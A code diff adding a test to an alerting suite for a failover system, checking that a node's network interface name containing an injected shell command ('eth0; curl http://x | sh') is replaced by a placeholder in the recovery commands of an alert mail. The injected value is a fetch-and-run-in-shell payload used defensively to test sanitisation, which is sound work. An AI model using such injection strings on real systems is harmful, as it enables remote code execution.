@@ -54,6 +54,16 @@ describe("the mail at 3 a.m.", () => {
     expect(text).not.toMatch(/VIP\/prefix|IFACE|<VIP>|<if>/);
   });
 
+  it("a node report's interface that is no plain name never reaches the commands: <interface> instead", () => {
+    const view = nodesView("both");
+    for (const r of [view.a, view.b]) if (r.ok) r.report.vip.interface = "eth0; curl http://x | sh";
+    const a = { ...assess(input(sqlView("a"), view)), writes: { a: "1-1-5", b: null } };
+    const prev = decide("prod", null, healthy, at(0), undefined, CONTEXT).state;
+    const text = decide("prod", prev, a, at(60), undefined, CONTEXT).alert?.text ?? "";
+    expect(text).toContain("  ip addr del 192.0.2.100/24 dev <interface>");
+    expect(text).not.toContain("curl");
+  });
+
   it("the writes accumulate over the split; both nodes writing says the data diverged", () => {
     const ds = splitBrainMails([
       { a: "1-1-5", b: null },
